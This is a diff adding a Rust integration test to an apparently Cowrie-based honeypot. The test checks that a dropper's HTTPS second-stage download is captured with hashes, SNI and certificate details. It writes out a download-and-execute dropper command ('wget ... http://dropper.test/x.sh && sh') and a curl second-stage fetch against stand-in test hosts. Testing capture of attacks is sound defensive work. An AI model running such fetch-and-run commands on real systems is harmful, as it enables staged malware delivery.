@@ -11,6 +11,7 @@ use hermes_core::config::EgressMode;
 use serde_json::Value;
 
 use crate::client::{ROOT_PROMPT, Shell, output_lines};
+use crate::egress_fetch::internet::TestInternet;
 use crate::harness::{Hermes, Options};
 
 async fn run(shell: &mut Shell, command: &str) -> Vec<String> {
@@ -358,4 +359,134 @@ async fn egress_https_a_second_stage_over_https_is_captured_from_a_real_box() {
         stored.display()
     );
     assert_eq!(crate::harness::sha256_file(&stored), sha);
+}
+
+/// A certificate for `name` signed by a CA of the test's own, made in `dir`: the
+/// CA (PEM), the leaf and its key (PEM), the leaf's DER.
+fn web_pki(dir: &std::path::Path, name: &str) -> (std::path::PathBuf, Vec<u8>, Vec<u8>, Vec<u8>) {
+    let ec = [
+        "-newkey",
+        "ec",
+        "-pkeyopt",
+        "ec_paramgen_curve:P-256",
+        "-nodes",
+        "-days",
+        "2",
+    ];
+    let mut args = vec!["req", "-x509"];
+    args.extend(ec);
+    args.extend([
+        "-subj",
+        "/CN=Test Web Root",
+        "-keyout",
+        "ca.key",
+        "-out",
+        "ca.pem",
+    ]);
+    openssl(dir, &args);
+    let subject = format!("/CN={name}");
+    let san = format!("subjectAltName=DNS:{name}");
+    let mut args = vec!["req", "-x509"];
+    args.extend(ec);
+    args.extend(["-subj", &subject, "-addext", &san]);
+    args.extend(["-addext", "basicConstraints=critical,CA:FALSE"]);
+    args.extend([
+        "-CA", "ca.pem", "-CAkey", "ca.key", "-keyout", "leaf.key", "-out", "leaf.pem",
+    ]);
+    openssl(dir, &args);
+    let der = openssl(dir, &["x509", "-in", "leaf.pem", "-outform", "DER"]);
+    let cert = std::fs::read(dir.join("leaf.pem")).expect("leaf");
+    let key = std::fs::read(dir.join("leaf.key")).expect("key");
+    (dir.join("ca.pem"), cert, key, der)
+}
+
+/// The dropper: `wget http://dropper.test/x.sh && sh x.sh`, whose curl
+/// fetches the second stage over HTTPS by name from the test's own internet (a
+/// Docker network of its own; names from the static map); Python's urllib over
+/// HTTPS too. Both bodies stored with the sha256 served, the script's output at the
+/// client, the HTTPS events with the SNI and the upstream certificate.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn egress_https_a_dropper_fetches_its_second_stage_over_https_by_name() {
+    require_docker!();
+    let pki = tempfile::tempdir().expect("dir");
+    let (roots, cert, key, leaf_der) = web_pki(pki.path(), "cdn.test");
+    let dropper = b"#!/bin/sh\necho stage-one-ran\ncurl -sS -o /tmp/second.bin https://cdn.test/second.bin && echo \"second: $(sha256sum /tmp/second.bin | cut -c1-64)\"\n".to_vec();
+    let second: Vec<u8> = (0..5000u32).map(|i| (i * 7 % 251) as u8).collect();
+    let py = b"fetched by python over https\n".to_vec();
+    let internet = TestInternet::start_with(
+        "https",
+        &[
+            ("x.sh", dropper.clone()),
+            ("second.bin", second.clone()),
+            ("py.bin", py.clone()),
+        ],
+        Some((&cert, &key)),
+    );
+    let server = internet.server;
+    let hermes = Hermes::start(Options::default().configure(move |c| {
+        c.egress.mode = EgressMode::Fetch;
+        c.capture.enabled = true;
+        c.egress.dns.static_only = true;
+        c.egress.dns.static_hosts = [("dropper.test", server), ("cdn.test", server)]
+            .into_iter()
+            .map(|(name, ip)| (name.to_owned(), ip.into()))
+            .collect();
+        c.egress.upstream_allow =
+            vec![AddressBlock::parse(&format!("{server}/32")).expect("block")];
+        c.egress.tls.extra_roots = Some(roots.clone());
+    }));
+    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
+    let out = run(
+        &mut shell,
+        "wget -q -O /tmp/x.sh http://dropper.test/x.sh && sh /tmp/x.sh",
+    )
+    .await;
+    let second_sha = crate::harness::sha256_hex(&second);
+    assert_eq!(
+        out,
+        ["stage-one-ran".to_owned(), format!("second: {second_sha}")],
+        "{}",
+        hermes.output()
+    );
+    let out = run(
+        &mut shell,
+        "python3 -c \"import urllib.request as u; print(len(u.urlopen('https://cdn.test/py.bin', timeout=20).read()))\"",
+    )
+    .await;
+    assert_eq!(out, [py.len().to_string()], "{out:?}");
+
+    let downloads = |url: &str| {
+        let events = hermes.wait_for_events(&format!("the download of {url}"), |events| {
+            events
+                .iter()
+                .any(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
+        });
+        events
+            .into_iter()
+            .find(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
+            .expect("the download")
+    };
+    let stored = |event: &Value| {
+        std::fs::read(event["outfile"].as_str().expect("outfile")).expect("stored file")
+    };
+    let first = downloads("http://dropper.test/x.sh");
+    assert_eq!(stored(&first), dropper);
+    assert!(first.get("sni").is_none(), "{first}");
+    let leaf_sha = crate::harness::sha256_hex(&leaf_der);
+    for (url, body) in [
+        ("https://cdn.test/second.bin", &second),
+        ("https://cdn.test/py.bin", &py),
+    ] {
+        let event = downloads(url);
+        assert_eq!(event["shasum"], crate::harness::sha256_hex(body), "{event}");
+        assert_eq!(&stored(&event), body);
+        assert_eq!(event["sni"], "cdn.test");
+        assert_eq!(event["upstream"], format!("{server}:443"));
+        assert_eq!(event["upstream_cert_sha256"], leaf_sha.as_str());
+        assert_eq!(event["upstream_cert_issuer"], "CN=Test Web Root");
+    }
+    // They reached the server (on 443, as `upstream` says).
+    let (requests, _) = internet.stats();
+    assert!(requests.contains(&"/second.bin".to_owned()), "{requests:?}");
+    assert!(requests.contains(&"/py.bin".to_owned()), "{requests:?}");
 }
